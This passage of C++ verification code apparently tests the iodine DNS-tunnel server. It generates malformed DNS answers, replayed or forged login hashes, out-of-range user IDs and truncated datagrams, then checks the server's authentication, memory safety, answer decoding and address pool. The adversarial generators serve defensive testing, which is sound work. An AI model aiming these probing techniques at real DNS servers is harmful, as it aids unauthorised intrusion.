		if (lie != rdlen) st.hit("ans:rdlength-lies");
		if (lie > 65535) lie = 65535;
		m[rdlen_pos] = (uint8_t)(lie >> 8); m[rdlen_pos + 1] = (uint8_t)lie;
		if (m.size() > 64000) { nrec = k + 1; break; }
	}
	uint16_t an = (uint16_t)nrec;
	switch (t.pick({12, 1, 1, 1})) { case 1: an = 0; st.hit("ans:ancount-zero"); break; case 2: an = (uint16_t)(nrec + 1 + t.below(300)); st.hit("ans:ancount-too-large"); break; case 3: an = 65535; st.hit("ans:ancount-too-large"); break; default: break; }
	m[ancount_pos] = (uint8_t)(an >> 8); m[ancount_pos + 1] = (uint8_t)an;
	if (nrec >= 17) st.hit("ans:17+records");
	if (nrec >= 240) st.hit("ans:240+records");
	switch (t.pick({10, 1, 1})) {
	case 1: if (m.size() > 13) { m.resize(12 + t.below((uint32_t)(m.size() - 12))); st.hit("ans:truncated"); } break;
	case 2: { size_t g = 1 + t.below(200); for (size_t i = 0; i < g; i++) m.push_back((uint8_t)t.below(256)); st.hit("ans:trailing-garbage"); break; }
	default: break;
	}
	if (m.size() > 65000) m.resize(65000);
	if (nrec_out) *nrec_out = nrec;
	return m;
}

} // namespace mal
