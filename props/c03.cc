// C03 -- no tunnel access without answering the password challenge.
// Real iodined; 2..5 source addresses send DNS-mode and raw-mode protocol messages with adversarially chosen
// fields (userids in and out of range, login hashes for the current / an earlier / another slot's challenge,
// challenge+-1, bit flips, truncations, case mutations), honest sessions run in between, time crosses the 60 s
// expiry.  The monitor learns (slot, challenge) from every VACK on the wire and marks a slot logged-in exactly
// when a login carrying MD5(password, current challenge) is delivered; every privileged effect the server
// shows (tun write, forwarding into another session, address disclosure, accepted codec/option/fragment-size
// change, raw-mode login reply) must be on behalf of a logged-in slot.
#include "adv_common.h"
using namespace hz;
using namespace adv;

struct NameInfo { char cmd = 0; int user = -1000; };
static NameInfo name_info(Env &E, const std::string &qname)
{
	NameInfo n;
	int dl = ref::match_datalen(qname, E.cfg.domain);
	if (dl <= 0) return n;
	std::string d = qname.substr(0, dl);
	n.cmd = (char)tolower((unsigned char)d[0]);
	std::string rest = d.substr(1); if (!rest.empty() && rest.back() == '.') rest.pop_back();
	char k = n.cmd;
	if (k == 'l' || k == 'n' || k == 'p') { Bytes b = ref::codec_decode(0, rest, true); if (!b.empty()) n.user = (int)(int8_t)b[0]; }
	else if (k == 'i' || k == 's' || k == 'o') { if (d.size() >= 2) { n.user = ref::b32_value((unsigned char)d[1]); if (n.user < 0) n.user = 0; /* characters outside the alphabet decode as value 0 */ } }
	else if (k == 'r') { if (d.size() >= 2) { int v = ref::b32_value((unsigned char)d[1]); if (v < 0) v = 0; n.user = (v >> 1) & 15; } }
	else if ((k >= '0' && k <= '9') || (k >= 'a' && k <= 'f')) n.user = k <= '9' ? k - '0' : k - 'a' + 10;
	return n;
}

static bool is_one_of(const Bytes &p, std::initializer_list<const char *> names)
{
	std::string s(p.begin(), p.end());
	for (const char *n : names) if (s == n) return true;
	return false;
}

static bool authed(Env &E, int u) { return u >= 0 && u < 16 && E.slot[u].have && E.slot[u].auth; }

static bool contains(const Bytes &hay, const Bytes &needle)
{
	if (needle.size() > hay.size()) return false;
	return std::search(hay.begin(), hay.end(), needle.begin(), needle.end()) != hay.end();
}

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	Env E;
	scn::Config &c = E.cfg;
	c.qtype = 1 + (int)t.pick({4, 1, 3, 1, 1, 1, 1});
	c.check_ip = !t.chance(1, 3);
	static const int masks[] = {27, 28, 29, 30, 24};
	c.netmask = masks[t.pick({4, 1, 3, 3, 1})];
	size_t plen = (size_t)t.range(1, 32);
	c.password.clear();
	int pclass = (int)t.below(3);
	for (size_t i = 0; i < plen; i++) c.password += (char)(pclass == 0 ? t.range(0x21, 0x7e) : (pclass == 1 ? t.range(0x80, 0xfe) : t.range(1, 255)));
	if (c.password[0] == '-') c.password[0] = 'x';
	c.srv_seed = t.u32() | 1;
	int nsrc = t.range(2, 5);
	boot(E, t, nsrc);
	Bytes pending_z; bool pending = false;

	sim::W.on_recv = [&, prev = sim::W.on_recv](const sim::Datagram &dg, sim::Instance *i) {
		if (prev) prev(dg, i);
		if (i->idx != E.s->srv->idx) return;
		decode_incoming(E, dg);
		learn_from_incoming(E);
		Env::Cur &cu = E.cur;
		bool isdata = cu.raw ? cu.rawcmd == 2 : ((cu.cmd >= '0' && cu.cmd <= '9') || (tolower((unsigned char)cu.cmd) >= 'a' && tolower((unsigned char)cu.cmd) <= 'f'));
		if (isdata && pending) { (authed(E, cu.user) ? E.auth_upstream : E.unauth_upstream).push_back(pending_z); pending = false; }
	};
	sim::W.on_send = [&, prev = sim::W.on_send](const sim::Datagram &dg) {
		if (prev) prev(dg);
		if (dg.from_inst != E.s->srv->idx) return;
		if (is_rawframe(dg.data)) {
			int cmd = dg.data[3] >> 4, u = dg.data[3] & 15;
			if (cmd == 1) {
				E.n_rawlogin_ok++;
				if (!(E.cur.valid && E.cur.raw && E.cur.rawcmd == 1 && E.cur.user == u && E.slot[u].have && E.slot[u].raw))
					E.v.fail("C03", "C03:raw-login-reply", fmt("server answered a raw-mode login for slot %d that did not carry the response to challenge+1 of a logged-in session (from %s)", u, E.cur.from.str().c_str()));
			}
			if (cmd == 2) {
				Bytes body(dg.data.begin() + 4, dg.data.end());
				for (auto &z : E.unauth_upstream) if (z == body) E.v.fail("C03", "C03:forwarded-unauth", fmt("a packet sent in the name of a slot that was not logged in was forwarded to slot %d in raw mode", u));
			}
			learn_from_emission(E, dg);
			return;
		}
		refproto::Answer a;
		if (refproto::decode_answer(dg.data, a) && a.ok) {
			NameInfo n = name_info(E, a.qname);
			bool priv = false; const char *what = "";
			if (n.cmd == 'i' && (a.payload.size() == 5 || a.payload.size() == 17) && a.payload[0] == 'I') { priv = true; what = "disclosed its address (I)"; }
			if (n.cmd == 's' && is_one_of(a.payload, {"Base32", "Base64", "Base64u", "Base128"})) { priv = true; what = "switched the upstream codec (S)"; }
			if (n.cmd == 'o' && is_one_of(a.payload, {"Base32", "Base64", "Base64u", "Base128", "Raw", "Lazy", "Immediate"})) { priv = true; what = "changed an option (O)"; }
			if (n.cmd == 'n' && a.payload.size() == 2) {
				// accepted = the two bytes of the request echoed back
				int dl = ref::match_datalen(a.qname, E.cfg.domain);
				std::string rest = a.qname.substr(1, dl > 1 ? dl - 1 : 0); if (!rest.empty() && rest.back() == '.') rest.pop_back();
				Bytes b = ref::codec_decode(0, rest, true);
				if (b.size() >= 3 && b[1] == a.payload[0] && b[2] == a.payload[1]) { priv = true; what = "set the fragment size (N)"; }
			}
			if (priv) {
				E.per_cmd[std::string(1, n.cmd) + ":accepted"]++;
				E.n_priv_ok++;
				if (!authed(E, n.user))
					E.v.fail("C03", std::string("C03:unauth:") + n.cmd, fmt("server %s for slot %d, which has not answered its current challenge (request from %s)", what, n.user, dg.dst.str().c_str()));
			} else if (n.cmd && strchr("isonlp0123456789abcdef", n.cmd)) {
				std::string s(a.payload.begin(), a.payload.end());
				if (s == "BADIP" || s == "LNAK") { E.n_refused++; E.per_cmd[std::string(1, n.cmd) + ":refused"]++; }
			}
			// downstream data carrying bytes of a packet that was sent upstream in the name of a slot that was not logged in
			if (a.payload.size() >= 2 + 8 && n.cmd && strchr("p0123456789abcdef", n.cmd)) {
				Bytes frag(a.payload.begin() + 2, a.payload.end());
				// (compressed packets of similar size share their first bytes: with a fragment size of 9 a fragment of a legitimately sent
				// packet is also found in one that was sent without login, so bytes that also occur in a legitimate packet prove nothing)
				bool legit = false; for (auto &z : E.auth_upstream) if (contains(z, frag)) legit = true;
				if (!legit) for (auto &z : E.unauth_upstream) if (contains(z, frag)) E.v.fail("C03", "C03:forwarded-unauth", fmt("downstream data for slot %d carries a packet that was sent upstream in the name of a slot that was not logged in", n.user));
			}
		}
		learn_from_emission(E, dg);
	};
	sim::W.on_tun_write = [&, prev = sim::W.on_tun_write](sim::Instance *i, const Bytes &b) {
		if (prev) prev(i, b);
		if (i->idx != E.s->srv->idx) return;
		E.n_tunw++;
		Env::Cur &cu = E.cur;
		int u = cu.valid ? cu.user : -1000;
		if (!authed(E, u))
			E.v.fail("C03", "C03:tun-write-unauth", fmt("server wrote a %zu-byte packet to its tun device while processing a datagram from %s naming slot %d, which has not answered its current challenge", b.size(), cu.from.str().c_str(), u));
	};

	std::vector<Honest> honest;
	int nact = t.range(10, 80);
	std::string acts;
	for (int k = 0; k < nact && !sim::W.livelock && !t.exhausted(); k++) {
		if (t.chance(1, 12) && honest.size() < 2) {
			// an honest session appears on a source that has none yet
			int sidx = (int)t.below((uint32_t)nsrc);
			bool used = false; for (auto &h : honest) if (h.src == sidx) used = true;
			if (!used) {
				Honest h; h.src = sidx;
				bool ok = honest_start(E, h, t.chance(1, 2));
				E.note(fmt("honest session on src%d: %s user=%d", sidx, ok ? "up" : "refused", h.user));
				honest.push_back(h);
				continue;
			}
		}
		if (!honest.empty() && t.chance(1, 6)) {
			Honest &h = honest[t.below((uint32_t)honest.size())];
			if (h.up) {
				scn::ScriptClient &sc = E.S(h.src).sc;
				Bytes pkt = scn::tun_packet(E.s->server_tun_ip(), E.slot[h.user & 31].tun_ip.empty() ? Bytes{10, 0, 0, 2} : E.slot[h.user & 31].tun_ip, Bytes(10 + t.below(40), (uint8_t)k), (uint16_t)(40000 + k));
				E.auth_upstream.push_back(refproto::zcompress(pkt));
				sc.send_packet(pkt, 100);
				honest_absorb(E, h);
				E.note(fmt("honest src%d sends a %zu-byte packet", h.src, pkt.size()));
				continue;
			}
		}
		Act a = gen_hostile(E, t, nsrc, true);
		if (a.kind == K_ADV) { sim::W.run_for(a.dt); E.note(a.str()); continue; }
		if (a.kind == K_TUN || a.kind == K_Z || a.kind == K_Y) { a.kind = K_P; }
		if (a.hash == H_EARLIER || a.hash == H_OTHERSLOT) E.n_replay++;
		if (a.kind == K_DATA || a.kind == K_RAWDATA) {
			Bytes pkt = small_packet(E, a, dest_ip(E, a));
			pending_z = refproto::zcompress(pkt); pending = true;
		}
		size_t before_auth = E.auth_upstream.size(), before_un = E.unauth_upstream.size();
		send_act(E, t, a);
		// classification of upstream packets happens when the server reads the datagram (on_recv above)
		E.auth_upstream.resize(before_auth); E.unauth_upstream.resize(before_un);
		E.note(a.str());
		sim::W.run_for(3000);
		pending = false;
		if (t.chance(1, 8)) sim::W.run_for(25000);
	}
	sim::W.run_for(100000);
	r.render = c.describe() + fmt(" password(%zu)=%s sources=%d | vack=%d vful=%d logins=%d privileged-accepted=%d refused=%d replay-attempts=%d tun-writes=%d raw-logins=%d", plen, hexs(E.password, 16).c_str(), nsrc, E.n_vack, E.n_vful, E.n_login_ok, E.n_priv_ok, E.n_refused, E.n_replay, E.n_tunw, E.n_rawlogin_ok);
	for (size_t i = 0; i < E.trace.size() && i < 16; i++) r.render += "\n  " + E.trace[i];
	if (sim::W.livelock) r.fail("C03:livelock", "simulation did not make progress");
	if (E.s->srv->state == sim::ST_EXITED) r.fail("C03:server-exited", "server exited: " + E.s->srv->log.substr(0, 400));
	if (E.v.failed("C03")) r.fail(E.v.first["C03"].sig, E.v.first["C03"].why + "\n" + r.render);
	r.nontrivial = E.n_login_ok >= 1 && E.n_refused >= 1 && E.n_replay >= 1;
	for (auto &kv : E.per_cmd) r.cls(kv.first);
	r.cls(c.check_ip ? "source-check-on" : "source-check-off");
	if (E.n_tunw) r.cls("tun-write-by-logged-in-slot");
	if (E.n_rawlogin_ok) r.cls("raw-login-accepted");
	if (E.n_vful) r.cls("server-full");
	return r;
}

int main(int argc, char **argv)
{
	if (!ref::md5_selftest()) return 2;
	PropDef d; d.id = "C03"; d.run = run_case; d.tape_scale = 6.0;
	return harness_main(argc, argv, d);
}
