// C05 -- the server survives arbitrary datagrams (memory safety, termination) and keeps serving others.
// Real iodined under ASan+UBSan.  Prelude: 0..3 honest scripted sessions in generated handshake / transfer states
// (codec switched, lazy, fragment size set, mid upstream transfer, mid downstream transfer, raw mode) and 0..2
// sacrificial logged-in sessions owned by the attacker.  Then <= 24 hostile steps: raw bytes of any length,
// malformed DNS (bad counts, truncated sections, compression loops, pointers to/after the end, reserved label types,
// bytes >= 0x80 / NUL / '.' in labels, 255+ octet names, QR set), every tunnel command letter in both cases with
// adversarial arguments and userids, raw-mode frames of all lengths, packets of any length on the tun device,
// time steps; the receive-buffer residue is a generated choice.  Oracle: (i) no sanitizer report, the server has
// not exited and returns to select() after every datagram (wall-clock watchdog); (ii) health probe: every honest
// session that should still be alive sends a fresh one-fragment packet: it must reach the server's tun device
// unchanged and be acknowledged in a well-formed answer.
// The same case function is driven by rapidcheck (choice tapes) and by libFuzzer (bytes -> tape).
#include "c05_case.h"
using namespace hz;
static CaseResult run_case(Tape &t) { return c05::run_case(t); }

#ifdef VERIF_FUZZ_TARGET
#include "fuzz_entry.h"
VERIF_FUZZ_ENTRY("C05", run_case)
#else
int main(int argc, char **argv)
{
	if (!ref::md5_selftest()) return 2;
	PropDef d; d.id = "C05"; d.run = run_case; d.tape_scale = 8.0; d.case_timeout_s = 20;
	return harness_main(argc, argv, d);
}
#endif
