// C09 -- downstream answers decode exactly (or to a prefix), monotonically in size.
#include "answer_common.h"
using namespace hz;
using namespace ans;

static int level = 1;

// Largest payload the client extracts exactly, per (query type, downstream codec, caller buffer 4096 / 65536), measured on the
// unchanged tree with every length and five contents (it does not depend on content or query-name length).  Where the wire
// carries more than this (TXT, and MX/SRV with the 4 KB handshake buffer) the limit is the client's 4096-byte text buffer.
// Used as: the server's answer, decoded by the INDEPENDENT reference decoder, carries the whole payload (so it fitted the
// answer format as emitted) and the length is within this table => the client must deliver it exactly.
static const int LMAX_FIT[2][7][5] = {
	{{4096, 4096, 4096, 4096, 4096}, {4096, 4096, 4096, 4096, 4096}, {2559, 3071, 3071, 3583, 4095}, {2464, 2960, 2960, 3447, 2464}, {2464, 2960, 2960, 3447, 2464}, {153, 183, 183, 214, 153}, {153, 183, 183, 214, 153}},
	{{4096, 4096, 4096, 4096, 4096}, {4096, 4096, 4096, 4096, 4096}, {2559, 3071, 3071, 3583, 4095}, {4096, 4096, 4096, 4096, 4096}, {4096, 4096, 4096, 4096, 4096}, {153, 183, 183, 214, 153}, {153, 183, 183, 214, 153}},
};

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	Conf c; c.qt = (int)t.below(7); c.de = (int)t.below(5); c.namekind = (int)t.below(4); c.buflen = t.chance(1, 2) ? 4096 : 65536;
	size_t len;
	switch (t.pick({3, 3, 2, 2})) { case 0: len = (size_t)t.range(2, 60); break; case 1: len = (size_t)t.range(2, 400); break; case 2: len = (size_t)t.range(2, 4096); break; default: len = (size_t)(252 * t.range(1, 10) + t.range(-3, 3)); break; }
	if (len < 2) len = 2;
	if (len > 4096) len = 4096;
	Bytes p = t.bytes_of(len);
	Outcome o = roundtrip(c, p, (uint16_t)(1 + t.below(65535)));
	int k = classify(p, o);
	r.render = conf_str(c) + " payload(" + std::to_string(len) + ")=" + hexs(p, 24) + " -> rv=" + std::to_string(o.rv) + " class=" + (k == 0 ? "exact" : (k == 1 ? "nothing" : (k == 2 ? "prefix" : "DIFFERENT")));
	if (k == 3) r.fail(std::string("C09:mismatch:type=") + QTN[c.qt] + ":codec=" + DE[c.de], "client extracted different bytes than the server was given: " + r.render + " got=" + hexs(o.out, 40));
	if (r.ok && k != 0 && o.ref_exact && (int)len <= LMAX_FIT[c.buflen > 4096][c.qt][c.de]) r.fail("C09:fits-but-not-delivered", "the payload fits the answer format (the reference decoder extracts all of it) but the client did not deliver it exactly: " + r.render);
	// whether a payload fits is a matter of its length, not of its contents ("if a payload of some length is delivered exactly, so is every
	// shorter one"): the same length filled with 0xff (no NUL, no byte a codec treats specially) must not fare better than the generated one
	{
		Bytes q(len, 0xff); q[0] = (uint8_t)(0x80 | (len & 0x7f));
		Outcome oq = roundtrip(c, q, (uint16_t)(1 + t.below(65535)));
		int kq = classify(q, oq);
		if (r.ok && kq == 0 && k != 0) r.fail(std::string("C09:content-dependent:type=") + QTN[c.qt] + ":codec=" + DE[c.de], "a payload of this length is delivered exactly when it consists of 0xff bytes, but the generated payload of the same length is not: " + r.render);
		if (r.ok && kq == 3) r.fail(std::string("C09:mismatch:type=") + QTN[c.qt] + ":codec=" + DE[c.de], "client extracted different bytes than the server was given (0xff payload): " + r.render);
		if (r.ok && k == 0 && kq != 0) r.fail(std::string("C09:content-dependent:type=") + QTN[c.qt] + ":codec=" + DE[c.de], "the generated payload is delivered exactly, but a payload of the same length consisting of 0xff bytes is not: " + r.render);
	}
	// the outcome is a matter of the answer format, not of the length of the echoed query name
	Conf c2 = c; c2.namekind = (c.namekind + 1 + (int)t.below(3)) % 4;
	Outcome o2 = roundtrip(c2, p, (uint16_t)(1 + t.below(65535)));
	int k2 = classify(p, o2);
	if (r.ok && k2 != 3 && (k2 != k || o2.out.size() != o.out.size())) r.fail("C09:depends-on-query-name", "the same payload in the same answer format is extracted differently for another query-name length: " + r.render + " | " + conf_str(c2) + " -> rv=" + std::to_string(o2.rv));
	// An answer cut short in transit (a relay that truncates UDP replies) leaves nothing behind in the client: the next intact answer is
	// extracted exactly as before.  (What the client makes of the cut answer itself is not judged; it is not the server's answer.)
	bool cut_case = false;
	if (t.chance(1, 2)) {
		size_t blen = std::min<size_t>(4096, len + (size_t)t.range(60, 1800));
		Bytes big = content(blen, (int)t.below(2), t.u32());
		int cut = t.range(150, 990);
		Outcome ob = roundtrip(c, big, (uint16_t)(1 + t.below(65535)), cut);
		if (r.ok && ob.rv == -777) r.fail("C09:overrun-on-cut-answer", "the client wrote past the caller's buffer while reading an answer cut short in transit: " + r.render);
		Outcome o3 = roundtrip(c, p, (uint16_t)(1 + t.below(65535)));
		int k3 = classify(p, o3);
		cut_case = true;
		if (r.ok && (k3 != k || o3.out.size() != o.out.size())) r.fail(std::string("C09:depends-on-previous-reply:type=") + QTN[c.qt], "after an answer of " + std::to_string(blen) + " payload bytes that was cut short in transit (" + std::to_string(cut) + " per mille of its records arrived) the same payload in the same answer format is extracted differently: " + r.render + " -> then rv=" + std::to_string(o3.rv) + " got=" + hexs(o3.out, 40));
	}
	bool multi = (c.qt == 2 && len > 150) || ((c.qt == 3 || c.qt == 4) && len > 140) || len > 34;
	r.nontrivial = multi;
	r.cls(std::string("type:") + QTN[c.qt]); r.cls(std::string("codec:") + DE[c.de]);
	r.cls(k == 0 ? "exact" : (k == 1 ? "nothing" : "prefix"));
	if (cut_case) r.cls("after-an-answer-cut-short-in-transit");
	return r;
}

static bool exhaustive(Stats &st, std::string &msg)
{
	int job = 0;
	uint64_t n = 0, nexact = 0, nref = 0;
	std::string lmax_report;
	for (int qt = 0; qt < 7; qt++) for (int de = 0; de < 5; de++) for (int bl = 0; bl < 2; bl++) {
		if ((job++) % enum_parts != enum_part) continue;
		int ncls = level >= 2 ? 5 : 2;
		for (int ci = 0; ci < ncls; ci++) {
			int cls = level >= 2 ? ci : (ci == 0 ? (qt + de) % 5 : 1);
			int lmax[4] = {1, 1, 1, 1}; bool broken[4] = {false, false, false, false}; int first_bad[4] = {0, 0, 0, 0};
			for (int len = 2; len <= 4096; len++) {
				if (level < 2 && len > 320 && len % 5 != (qt + de) % 5 && !(len % 252 < 4 || len % 252 > 248) && len < 4090 && !(len >= 2100 && len <= 2180) && !(len >= 3790 && len <= 3830)) continue;
				Bytes p = content(len, cls, len * 31 + qt);
				int kk[4]; size_t got[4];
				for (int nk = 0; nk < 4; nk++) {
					Conf c{qt, de, nk, bl ? 65536 : 4096};
					Outcome o = roundtrip(c, p);
					int k = classify(p, o);
					kk[nk] = k; got[nk] = o.out.size();
					n++;
					if (o.ref_agrees) nref++;
					if (k == 3) { msg = std::string("C09:mismatch:type=") + QTN[qt] + ":codec=" + DE[de] + ": client extracted different bytes: " + conf_str(c) + " len=" + std::to_string(len) + " content-class=" + std::to_string(cls) + " rv=" + std::to_string(o.rv) + " got=" + hexs(o.out, 32) + " want=" + hexs(p, 32); return false; }
					if (k != 0 && o.ref_exact && len <= LMAX_FIT[bl][qt][de]) { msg = "C09:fits-but-not-delivered: " + conf_str(c) + ": a payload of " + std::to_string(len) + " bytes fits the answer format (the reference decoder extracts all of it from the server's answer) but the client extracted " + (k == 1 ? std::string("nothing") : std::to_string(o.out.size()) + " bytes"); return false; }
					if (k == 0) {
						nexact++;
						if (broken[nk]) { msg = "C09:non-monotonic: " + conf_str(c) + ": length " + std::to_string(len) + " is delivered exactly but the shorter length " + std::to_string(first_bad[nk]) + " was not"; return false; }
						lmax[nk] = len;
					} else if (!broken[nk]) { broken[nk] = true; first_bad[nk] = len; }
					bool nt = (qt == 2 && len > 250) || ((qt == 3 || qt == 4) && len > 150) || len > 35 || (lmax[nk] > 0 && abs(len - lmax[nk]) <= 2);
					uint64_t key[6] = {(uint64_t)qt, (uint64_t)de, (uint64_t)nk, (uint64_t)bl, (uint64_t)cls, (uint64_t)len};
					st.add_enum(fnv(key, sizeof key), nt, k == 0 ? "sweep:exact" : (k == 1 ? "sweep:nothing" : "sweep:prefix"));
				}
				// whether a payload fits is a matter of the answer format (type x codec), not of the query name that is echoed in front
				// of it: minimum-length and maximum-length query names must give the same outcome
				for (int nk = 1; nk < 4; nk++) if (kk[nk] != kk[0] || got[nk] != got[0]) {
					Conf c0{qt, de, 0, bl ? 65536 : 4096}, c1{qt, de, nk, bl ? 65536 : 4096};
					static const char *KN[] = {"exact", "nothing", "prefix"};
					msg = "C09:depends-on-query-name: payload of " + std::to_string(len) + " bytes (content class " + std::to_string(cls) + "): " + conf_str(c0) + " -> " + KN[kk[0]] + " (" + std::to_string(got[0]) + " bytes), " + conf_str(c1) + " -> " + KN[kk[nk]] + " (" + std::to_string(got[nk]) + " bytes)";
					return false;
				}
			}
			// "exact when it fits": the largest exact length must not collapse (floors from the format arithmetic,
			// calibrated on the unchanged tree: one hostname carries >= 100 bytes, NULL/PRIVATE/TXT/MX/SRV >= 1000)
			int floor_ = (qt == 5 || qt == 6) ? 100 : 1000;
			Conf c{qt, de, 0, bl ? 65536 : 4096};
			if (lmax[0] < floor_) { msg = "C09:capacity-collapse: " + conf_str(c) + ": largest exactly delivered length is " + std::to_string(lmax[0]) + " (< " + std::to_string(floor_) + ")"; return false; }
			if (ci == 0) { char b[96]; snprintf(b, sizeof b, "%s/%c/b%d:%d ", QTN[qt], DE[de], bl ? 65536 : 4096, lmax[0]); lmax_report += b; }
			if (getenv("VERIF_C09_CAL")) fprintf(stderr, "CAL %d %d %d %d %d\n", qt, de, bl, cls, std::min(lmax[0], std::min(lmax[1], lmax[2])));
		}
	}
	st.extra["sweep_roundtrips"] = std::to_string(n);
	st.extra["sweep_exact"] = std::to_string(nexact);
	st.extra["sweep_independent_decoder_agrees"] = std::to_string(nref);
	st.extra["lmax_per_configuration_part" + std::to_string(enum_part)] = "\"" + lmax_report + "\"";
	st.sample("length sweep per configuration (type x downstream codec x query-name length x caller buffer): every payload length 2..4096 (thorough) / 2..320 + TXT-boundary windows + 20% sample (quick); contents: random, ff, 00, probe pattern, DOWNCODECCHECK1", true);
	return true;
}

int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i++) if (!strcmp(argv[i], "--level")) level = atoi(argv[i + 1]);
	PropDef d; d.id = "C09"; d.run = run_case; d.exhaustive = exhaustive; d.tape_scale = 1.0;
	return harness_main(argc, argv, d);
}
