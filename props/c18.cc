// C18 -- tunnel address pool: distinct in-subnet addresses, never the server's; lookup finds exactly
// the live logged-in owner.  Unit shape (init_users / find_user_by_ip via glue/unit_api.c; time() is
// the simulator's clock).  Oracle = the statement, computed independently in host byte order.
#include "sim/harness.h"
#include "sim/simnet.h"
#include "sim/scenario.h"
#include "glue/unit_api.h"
#include <arpa/inet.h>
#include <set>
using namespace hz;

static std::string ip4(uint32_t h) { char b[32]; snprintf(b, sizeof b, "%u.%u.%u.%u", h >> 24, (h >> 16) & 255, (h >> 8) & 255, h & 255); return b; }

// returns "" or violation; *nontrivial set when the server sits among the first 17 host positions
static std::string check_config(uint32_t server_h, int m, uint32_t lookup_probe, bool *nontrivial, std::string *sig)
{
	uint32_t mask = 0xFFFFFFFFu << (32 - m);
	uint32_t net = server_h & mask, bcast = net | ~mask;
	uint64_t size = 1ull << (32 - m);
	int want = (int)std::min<uint64_t>(16, size - 3);
	v_users_free();
	int n = v_init_users(htonl(server_h), m);
	std::string ctx = " [server=" + ip4(server_h) + "/" + std::to_string(m) + "]";
	if (n != want) { *sig = "C18:count"; return "init_users returned " + std::to_string(n) + ", expected min(16, size-3) = " + std::to_string(want) + ctx; }
	std::set<uint32_t> seen;
	for (int i = 0; i < n; i++) {
		uint32_t a = ntohl(v_user_ip(i));
		if ((a & mask) != net) { *sig = "C18:outside"; return "slot " + std::to_string(i) + " address " + ip4(a) + " outside the subnet" + ctx; }
		if (a == server_h) { *sig = "C18:server-ip"; return "slot " + std::to_string(i) + " got the server's own address" + ctx; }
		if (a == net) { *sig = "C18:network-ip"; return "slot " + std::to_string(i) + " got the network address" + ctx; }
		if (a == bcast) { *sig = "C18:broadcast-ip"; return "slot " + std::to_string(i) + " got the broadcast address" + ctx; }
		if (!seen.insert(a).second) { *sig = "C18:duplicate"; return "address " + ip4(a) + " assigned twice" + ctx; }
		if (v_user_id(i) != i) { *sig = "C18:id"; return "slot id mismatch" + ctx; }
	}
	// lookup: only live (active + authenticated + seen within 60 s + not disabled) owners are found
	long now = (long)sim::W.wall();
	// state pattern derived from the probe value
	for (int i = 0; i < n; i++) {
		int st = (lookup_probe >> (2 * (i % 16))) & 3;   // 0 live, 1 inactive, 2 unauthenticated, 3 silent for 62 s
		v_user_set(i, st != 1, st != 2, 0, st == 3 ? now - 62 : now - (long)(i % 58));
	}
	for (int i = 0; i < n; i++) {
		int st = (lookup_probe >> (2 * (i % 16))) & 3;
		int got = v_find_user_by_ip(v_user_ip(i));
		int exp = st == 0 ? i : -1;
		if (got != exp) { *sig = "C18:lookup"; return "lookup of slot " + std::to_string(i) + " (state " + std::to_string(st) + ") returned " + std::to_string(got) + ctx; }
	}
	uint32_t others[4] = {server_h, net, bcast, net + (uint32_t)((lookup_probe >> 3) % size)};
	for (uint32_t o : others) {
		int got = v_find_user_by_ip(htonl(o));
		bool assigned_live = false; int owner = -1;
		for (int i = 0; i < n; i++) if (ntohl(v_user_ip(i)) == o) { owner = i; assigned_live = ((lookup_probe >> (2 * (i % 16))) & 3) == 0; }
		int exp = assigned_live ? owner : -1;
		if (got != exp) { *sig = "C18:lookup-foreign"; return "lookup of " + ip4(o) + " returned " + std::to_string(got) + " expected " + std::to_string(exp) + ctx; }
	}
	if (nontrivial) *nontrivial = (server_h - net) <= 17 || size <= 32;
	return "";
}

static const uint32_t BASES[] = {0x00000000u, 0x0A000000u, 0xAC100500u, 0xC0A8FF00u, 0xFFFFFF00u, 0x7F000000u, 0xE0000000u};

static CaseResult config_case(Tape &t)
{
	CaseResult r;
	int m = t.range(8, 30);
	uint32_t mask = 0xFFFFFFFFu << (32 - m);
	uint64_t size = 1ull << (32 - m);
	uint32_t base = t.chance(1, 3) ? t.u32() : BASES[t.below(7)];
	uint32_t pos;
	switch (t.pick({3, 3, 2, 2})) {
	case 0: pos = t.below((uint32_t)std::min<uint64_t>(size, 20)); break;
	case 1: pos = (uint32_t)(size - 1 - t.below((uint32_t)std::min<uint64_t>(size, 4))); break;
	case 2: pos = (uint32_t)(size / 2) + t.below(3); break;
	default: pos = (uint32_t)(t.u32() % size); break;
	}
	uint32_t server = (base & mask) | (pos % (uint32_t)size);
	uint32_t probe = t.u32();
	std::string sig; bool nt = false;
	std::string e = check_config(server, m, probe, &nt, &sig);
	r.render = "server=" + ip4(server) + "/" + std::to_string(m) + " host position " + std::to_string(pos) + " lookup-state-pattern=" + std::to_string(probe);
	if (!e.empty()) r.fail(sig, e);
	r.nontrivial = nt;
	r.cls("mask/" + std::to_string(m));
	return r;
}

static int level = 1;

static bool exhaustive(Stats &st, std::string &msg)
{
	// all netmasks 16..30 x every host position (incl. network/broadcast position) for one base, and
	// boundary positions for the other bases and for /8../15
	uint64_t n = 0;
	std::string sig;
	int job = 0;
	for (int m = 8; m <= 30; m++) {
		uint64_t size = 1ull << (32 - m);
		uint32_t mask = 0xFFFFFFFFu << (32 - m);
		for (int b = 0; b < 7; b++) {
			if ((job++) % enum_parts != enum_part) continue;
			uint32_t base = BASES[b] & mask;
			bool full = (m >= (level >= 2 ? 16 : 20) && b == 1) || m >= 22;
			if (full) {
				for (uint64_t pos = 0; pos < size; pos++) {
					bool nt = false;
					std::string e = check_config(base | (uint32_t)pos, m, (uint32_t)(pos * 2654435761u), &nt, &sig);
					if (!e.empty()) { msg = sig + ": " + e; return false; }
					uint64_t key[3] = {(uint64_t)m, base, pos};
					st.add_enum(fnv(key, sizeof key), nt, "enum:all-positions");
					n++;
				}
			} else {
				uint64_t ps[] = {0, 1, 2, 3, 14, 15, 16, 17, 18, 19, size / 2, size - 3, size - 2, size - 1};
				for (uint64_t pos : ps) {
					bool nt = false;
					std::string e = check_config(base | (uint32_t)pos, m, (uint32_t)(pos * 2654435761u + m), &nt, &sig);
					if (!e.empty()) { msg = sig + ": " + e; return false; }
					uint64_t key[3] = {(uint64_t)m, base, pos};
					st.add_enum(fnv(key, sizeof key), nt, "enum:boundary-positions");
					n++;
				}
			}
		}
	}
	st.extra["enum_configurations"] = std::to_string(n);
	st.sample("enumerated: every host position of 10.x/16 .. /21 and of all 7 bases for /22../30; 14 boundary positions for every other (mask, base)", true);
	return true;
}

// history case: slots are handed out (find_available_user), logged in, go silent, expire and are handed out again; after
// every step every tunnel address is looked up and must resolve to its slot exactly when that slot's *current* session is
// logged in and not silent for more than 60 s -- the rule by which the server accepts or refuses the session's own requests
